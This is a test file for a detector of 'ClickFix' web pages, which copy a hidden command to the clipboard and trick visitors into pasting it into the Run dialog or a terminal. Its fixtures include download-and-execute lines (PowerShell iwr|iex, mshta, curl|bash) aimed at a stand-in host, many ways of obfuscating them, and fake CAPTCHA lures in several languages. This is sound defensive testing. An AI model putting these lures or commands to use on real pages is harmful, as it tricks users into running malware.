import { describe, expect, test } from 'bun:test'
import { clickfixCheck } from '../../../src/trust/checks/malware/clickfix.ts'
import { findings, rules } from './page-subject.ts'

const COMMAND = 'powershell -w hidden -c iwr https://x.example/a.txt | iex'
const COPIES = `<script>function go(){navigator.clipboard.writeText("${COMMAND}")}</script>`
const TOLD =
  '<h1>Verify you are human</h1><button onclick=go()>I am not a robot</button><p>Press <b>Windows</b> + <b>R</b><p>Press Ctrl + V<p>Press Enter'
const found = (body: string) => rules(clickfixCheck, body).join() === 'content.clickfix'
const copying = (expression: string) => `<script>navigator.clipboard.writeText(${expression})</script>`

describe('a page that has its visitor run a command', () => {
  test.each([
    ['that a script copies', COPIES + TOLD],
    [
      'that an older script copies',
      `<textarea id=t>${COMMAND}</textarea><script>t.select();document.execCommand("copy")</script>${TOLD}`,
    ],
    ['that an attribute holds', `<button data-clipboard-text="${COMMAND}">Verify</button>${TOLD}`],
    [
      'that is written in pieces',
      `<script>navigator.clipboard.writeText("powe"+"rshell -w hi"+"dden -c x")</script>${TOLD}`,
    ],
    [
      'that is written in base64',
      `<script>navigator.clipboard.writeText(atob("${btoa(COMMAND)}"))</script>${TOLD}`,
    ],
    [
      'that is written in escapes',
      `<script>navigator.clipboard.writeText("${[...COMMAND].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}")</script>${TOLD}`,
    ],
    [
      'with carets in it',
      `<script>navigator.clipboard.writeText("cmd /c p^o^w^ershell -c x")</script>${TOLD}`,
    ],
    ['mshta', `<script>navigator.clipboard.writeText("mshta https://x.example/a")</script>${TOLD}`],
    [
      'on a Mac',
      `<script>navigator.clipboard.writeText("curl -s https://x.example/i.sh | bash")</script><h1>I'm not a robot</h1><p>Press ⌘ + Space, type Terminal<p>Press ⌘ + V and Return`,
    ],
    [
      'in the address bar of a window of files',
      `<script>navigator.clipboard.writeText("powershell -c ping x # C:\\\\file.docx")</script><p>To open the file: copy the path, open File Explorer, select the address bar (Ctrl + L) and paste it (Ctrl + V)`,
    ],
    [
      'to repair something',
      `${COPIES}<h1>Something went wrong</h1><p>How to fix: open the Run dialog, paste and press Enter`,
    ],
    [
      'in German',
      `${COPIES}<p>Bestätigen Sie, dass Sie ein Mensch sind: Windows-Taste + R drücken, mit Strg + V einfügen`,
    ],
    [
      'in Japanese',
      `${COPIES}<p>私はロボットではありません。Windows キー + R を押し、Ctrl + V で貼り付け、Enter`,
    ],
    [
      'in French',
      `${COPIES}<p>Vérifiez que vous êtes humain : touche Windows + R, puis collez avec Ctrl + V`,
    ],
    ['in Spanish', `${COPIES}<p>Verifique que es humano: tecla Windows + R, pegue con Ctrl + V`],
    [
      'that comes from elsewhere',
      `<script>fetch("/c").then(c=>navigator.clipboard.writeText(c))</script>${TOLD}`,
    ],
    [
      'with the instructions in a script',
      `<script>navigator.clipboard.writeText("${COMMAND}");document.body.innerHTML='<div><h1>Verify you are human</h1><p>Press Win + R, then Ctrl + V</div>'</script><p>Loading`,
    ],
    ['with a library', `<script>new ClipboardJS("#b",{text:()=>"${COMMAND}"})</script>${TOLD}`],
    [
      'that a listener puts in the place of what is copied',
      `<script>addEventListener("copy",e=>{e.clipboardData.setData("text/plain","${COMMAND}")})</script>${TOLD}`,
    ],
    [
      'through a blob',
      `<script>navigator.clipboard.write([new ClipboardItem({"text/plain":new Blob(["${COMMAND}"])})])</script>${TOLD}`,
    ],
    [
      'that it does not show, without a pretext',
      `${COPIES}<p>Right-click Start, then Terminal. Press Ctrl + V and Enter.`,
    ],
    [
      'in a language that is not known',
      `${COPIES}<p>Qaa zep <kbd>⊞ Win</kbd> + <kbd>R</kbd> oru. Ctrl + V mepi. Enter ja.`,
    ],
    [
      'with a picture for a key',
      `${COPIES}<p>Qaa <kbd><i class="fa fa-windows"></i></kbd> + <kbd>R</kbd>, <kbd>Ctrl</kbd> + <kbd>V</kbd>, <kbd>Enter</kbd>`,
    ],
    [
      'that is packed, in sight, to repair something',
      `<h1>How to fix</h1><p>Open Terminal, paste: <code>echo Y3VybCB4LmV4YW1wbGUvYXxzaA== | base64 -D | bash</code>${copying('"echo Y3VybCB4LmV4YW1wbGUvYXxzaA== | base64 -D | bash"')}`,
    ],
    [
      'that lies in a part of the page which is not shown',
      `<span id=c style="display:none">${COMMAND}</span><script>r.selectNode(c);document.execCommand("copy")</script>${TOLD}`,
    ],
    ['by a script of another file', `<script src="/a.js"></script>${TOLD}`],
  ])('%s', (_, body) => {
    expect(found(body)).toBe(true)
  })

  const REVERSED = [...COMMAND].reverse().join('')
  const bytes = [...COMMAND].map((character) => character.charCodeAt(0))
  test.each([
    ['turned around', `"${REVERSED}".split("").reverse().join("")`],
    ['as a list of words', `${JSON.stringify(COMMAND.split(' '))}.join(" ")`],
    ['as numbers', `new TextDecoder().decode(new Uint8Array([${bytes.join(',')}]))`],
    ['as numbers in a text', `"${bytes.join('-')}".split("-").map(c=>String.fromCharCode(c)).join("")`],
    ['in hexadecimal digits', `unhex("${Buffer.from(COMMAND).toString('hex')}")`],
    ['in base64 under a name', `(c=>atob(c))(window.k="${btoa(COMMAND)}")`],
    [
      'in base64, turned around',
      `atob("${[...btoa(COMMAND)].reverse().join('')}".split("").reverse().join(""))`,
    ],
    ['in base64 twice', `d(d("${btoa(btoa(COMMAND))}"))`],
    ['with filling', `"${COMMAND.replace(/(..)/g, '$1~')}".replace(/~/g,"")`],
    ['under a key', `String.fromCharCode(...[${bytes.map((byte) => byte ^ 0x2a).join(',')}].map(c=>c^42))`],
    [
      'under a key that is a word',
      `x([${bytes.map((byte, index) => byte ^ 'moon'.charCodeAt(index % 4)).join(',')}].map((c,i)=>c^"moon".charCodeAt(i%4)))`,
    ],
    ['moved along', `String.fromCharCode(...[${bytes.map((byte) => byte + 3).join(',')}].map(c=>c-3))`],
  ])('that is written %s', (_, expression) => {
    expect(found(copying(expression) + TOLD)).toBe(true)
    expect(found(copying(expression) + TOLD.replace(/.*/, '<h1>Moon</h1>'))).toBe(false)
  })

  test('whose pieces have names', () => {
    const pieces = '<script>var a="powe",b="rshell -w hid";let c={d:"den -c x"};'
    expect(found(`${pieces}navigator.clipboard.writeText(a+b+c.d)</script>${TOLD}`)).toBe(true)
    expect(found(`${pieces}navigator.clipboard.writeText(\`\${a}\${b}\${c.d}\`)</script>${TOLD}`)).toBe(true)
  })

  test('shows the command and the instruction', () => {
    expect(findings(clickfixCheck, COPIES + TOLD)[0]?.evidence).toMatchObject({
      at: 'script[0]',
      offset: 0,
      seen: expect.stringContaining('powershell -w hidden'),
      expected: expect.stringContaining('Windows + R'),
    })
  })
})

describe('a page that does not', () => {
  const LONG = 'The trick is described at length here. '.repeat(120)

  test.each([
    [
      'documentation whose button copies the command that it shows',
      '<h1>Install</h1><p>Open a terminal and paste:</p><pre>curl -sSf https://x.example/i | sh</pre><button data-clipboard-text="curl -sSf https://x.example/i | sh">Copy</button>',
    ],
    [
      'documentation whose script copies what is shown',
      '<h1>Install</h1><p>Open PowerShell and paste:</p><pre>irm https://x.example/i.ps1 | iex</pre><script>navigator.clipboard.writeText(pre.innerText)</script>',
    ],
    [
      'a page of many commands',
      `<p>Open a terminal. Paste with Ctrl+V.</p><pre>powershell -File a.ps1</pre><button data-clipboard-text="powershell -File a.ps1">Copy</button><p>${LONG}`,
    ],
    [
      'an article that quotes all of it',
      `<h1>ClickFix explained</h1><p>"Verify you are human", "press Windows + R", "press Ctrl + V": ${LONG}<pre>${COMMAND}</pre><button data-clipboard-text="${COMMAND}">Copy sample</button>`,
    ],
    [
      'an article with a button to copy its address',
      `<p>Verify you are human. Press Win+R and Ctrl+V. ${COMMAND} ${LONG}</p><script>navigator.clipboard.writeText(location.href)</script>`,
    ],
    ['a support page for the window of commands', '<p>Press Windows + R, type msinfo32 and press Enter.</p>'],
    [
      'a captcha',
      '<h1>Verify you are human</h1><input type=checkbox> I am not a robot<script>navigator.clipboard.writeText("x")</script>',
    ],
    ['a share button', '<button onclick="navigator.clipboard.writeText(location.href)">Copy link</button>'],
    [
      'an editor that knows the names of languages',
      '<p>Paste your code (Ctrl+V)</p><script>var l=["bash","powershell","cmd","curl"];navigator.clipboard.writeText(x)</script>',
    ],
    [
      'a guide whose commands are folded',
      '<h1>Install</h1><p>Open PowerShell, press Ctrl+V and Enter.</p><pre hidden>irm https://x.example/i.ps1 | iex</pre><script>navigator.clipboard.writeText(pre.innerText)</script>',
    ],
    [
      'a repair whose button copies the command that it shows',
      '<h1>How to fix: the microphone is blocked</h1><p>Press Win + R, Ctrl + V, Enter</p><pre>cmd /c ipconfig /flushdns</pre><button data-clipboard-text="cmd /c ipconfig /flushdns">Copy</button>',
    ],
    [
      'a repair with a command of another program',
      '<h1>How to fix it</h1><p>Press Win + R, then Ctrl + V, then Enter</p><pre>sfc /scannow</pre><script>navigator.clipboard.writeText(pre.innerText)</script>',
    ],
    [
      'a warning',
      '<script>x()</script><p>Scam: "verify you are human", Windows + R, Ctrl + V, Enter. Never do it.</p>',
    ],
  ])('%s', (_, body) => {
    expect(rules(clickfixCheck, body)).toEqual([])
  })
})

describe('a command that a page does not show', () => {
  test('lies in the clipboard without a word', () => {
    expect(rules(clickfixCheck, `${COPIES}<button onclick=go()>Go</button>`)).toEqual([
      'content.hidden_command',
    ])
    expect(rules(clickfixCheck, `${COPIES}<pre>${COMMAND}</pre>`)).toEqual([])
    expect(rules(clickfixCheck, `${COPIES}<p>${'Bread and cakes. '.repeat(120)}`)).toEqual([])
  })

  test('comes from elsewhere into a terminal', () => {
    const fetched = copying('await c.text()')
    const steps = '<p>Open Terminal. Press Ctrl + V. Press Enter.'
    expect(rules(clickfixCheck, fetched + steps)).toEqual(['content.hidden_command'])
    expect(rules(clickfixCheck, `${fetched}${steps}<pre>brew install moon</pre>`)).toEqual([])
    expect(rules(clickfixCheck, copying('pre.innerText') + steps)).toEqual([])
  })
})
